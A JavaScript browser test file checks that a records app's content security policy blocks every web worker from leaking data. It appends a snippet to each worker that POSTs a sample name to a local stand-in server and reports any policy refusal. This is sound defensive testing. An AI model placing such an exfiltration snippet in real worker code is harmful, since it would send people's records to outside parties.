// No worker of the app can send what it holds to anyone: not on the first visit, not without a service worker, and not after
// a reload that passes the service worker by. A static server sends no policy with the script of a worker, so each of them
// is served here with lines at its end that try to send a record away, and tell what came of it.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { availableParallelism } from "node:os";
import { join } from "node:path";
import { after, afterEach, before, it } from "node:test";
import { folder, openSite } from "./site.js";

const WORKERS = [
  "views/duplicates/worker.js",
  "views/link/worker.js",
  // A large file is read by several workers where there are several cores.
  ...(availableParallelism() > 1 ? ["views/link/reader.js"] : []),
  "views/review/worker.js",
  "views/schedule/due-list-worker.js",
];
const RECORDS = `record_id,family_name,birth_date,note\n${`1,Okonkwo,2021-06-05,${"x".repeat(200)}\n`.repeat(30_000)}`;
const CHILD = '{"id":"a","birth_date":"2026-01-05","doses":[],"as_at":"2026-03-02"}\n';

let stranger, reached, site;
before(async () => {
  stranger = createServer((request, response) => {
    reached.push(request.method);
    response.end();
  });
  await new Promise((resolve) => stranger.listen(0, "127.0.0.1", resolve));
});
after(() => stranger?.close());
afterEach(() => site?.close());

const leaky = (path) =>
  `${readFileSync(join(folder, path), "utf8")}
  const tell = (word) => fetch(new URL("/told?${path}=" + word, import.meta.url));
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => tell(effectiveDirective));
  fetch("http://127.0.0.1:${stranger.address().port}/", { method: "POST", mode: "no-cors", body: "Amelia Okonkwo" })
    .then(() => tell("sent"), () => {});`;

async function openLeaky(files = {}) {
  site = await openSite({ ...Object.fromEntries(WORKERS.map((path) => [`/${path}`, leaky(path)])), ...files });
  return site.open("check");
}

const go = (page, name) => page.locator("#menu").getByRole("link", { name }).click();

/** Has every worker of the app started, and tells what came of its attempt. */
async function attempts(page) {
  reached = [];
  site.server.asked.length = 0;
  const file = (name, text) => ({ name, mimeType: "text/csv", buffer: Buffer.from(text) });
  await page.setInputFiles("#duplicates-file", file("index.csv", RECORDS.slice(0, 1000)));
  await go(page, "Schedule");
  await page.setInputFiles("#due-list-file", file("children.ndjson", CHILD));
  await go(page, "Review");
  await page.fill("#review-reader", "jk");
  await page.getByRole("button", { name: "Practise on made-up pairs" }).click();
  await go(page, "Link");
  await page.setInputFiles("#link-files", file("records.csv", RECORDS));
  await page.locator("#link-start").click();
  // A browser may tell of one refusal twice, before the service worker and behind it.
  const told = () => [
    ...new Set(site.server.asked.filter((path) => path.startsWith("/told?")).map((path) => path.slice("/told?".length))),
  ].sort();
  for (let wait = 0; wait < 100 && told().length < WORKERS.length; wait += 1) await page.waitForTimeout(200);
  return told();
}

async function assertRefused(page) {
  const refused = WORKERS.map((path) => `${path}=connect-src`).sort();
  assert.deepEqual(await attempts(page), refused, "each worker is refused by the policy of the page");
  assert.deepEqual(reached, [], "nothing came anywhere else");
}

const isControlled = (page) => page.evaluate(() => navigator.serviceWorker.controller !== null);
/** Reloads as with the shift key. */
async function reloadHard(page) {
  const session = await page.context().newCDPSession(page);
  await Promise.all([page.waitForEvent("load"), session.send("Page.reload", { ignoreCache: true })]);
  await page.locator("main h1").first().waitFor();
}

it("refuses workers on the first visit, after a hard reload and once all is kept for offline", async () => {
  const page = await openLeaky();
  await assertRefused(page);
  await page.getByText("Ready to work without a network.", { exact: true }).waitFor();
  await go(page, "Check");
  await reloadHard(page);
  assert.equal(await isControlled(page), false);
  await assertRefused(page);
  await go(page, "Check");
  await page.reload();
  assert.equal(await isControlled(page), true);
  await assertRefused(page);
});

it("refuses workers where there is no service worker", async () => {
  const page = await openLeaky({ "/sw.js": 'throw new Error("no service worker here");' });
  await page.getByText("This browser does not let the app work without a network.").waitFor();
  await assertRefused(page);
  assert.equal(await isControlled(page), false);
});
